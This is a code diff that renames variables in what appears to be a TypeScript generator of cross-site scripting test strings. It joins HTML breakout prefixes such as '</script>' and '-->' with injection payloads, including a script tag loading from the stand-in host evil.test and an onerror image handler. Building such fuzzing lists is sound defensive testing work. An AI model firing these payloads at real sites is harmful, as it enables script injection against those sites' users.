@@ -38,7 +38,7 @@ export const nastyTexts: readonly string[] = [
  * More than five hundred.
  */
 export const nastyPayloads = (): string[] =>
-  waysOut.flatMap((wayOut) => waysToRun.map((wayToRun) => `${wayOut}${wayToRun}`));
+  exits.flatMap((exit) => payloads.map((payload) => `${exit}${payload}`));
 
 /** Texts no longer than a field takes, which together hold all of these. */
 export const packed = (texts: readonly string[], longest: number): string[] => {
@@ -53,11 +53,11 @@ export const packed = (texts: readonly string[], longest: number): string[] => {
 };
 
 // biome-ignore format: a list of attempts
-const waysOut = [
+const exits = [
   '', '">', "'>", '`>', '</title>', '</textarea>', '</script>', '</style>', '</template>', '</select>', '-->', '<!--', ']]>', '<<', '</a>', '" x="', "';//", '\\u003c', '&#60;', '{{',
 ];
 
-const waysToRun = [
+const payloads = [
   '<script>alert(1)</script>',
   '<script src=//evil.test>',
   '<img src=x onerror=confirm(1)>',
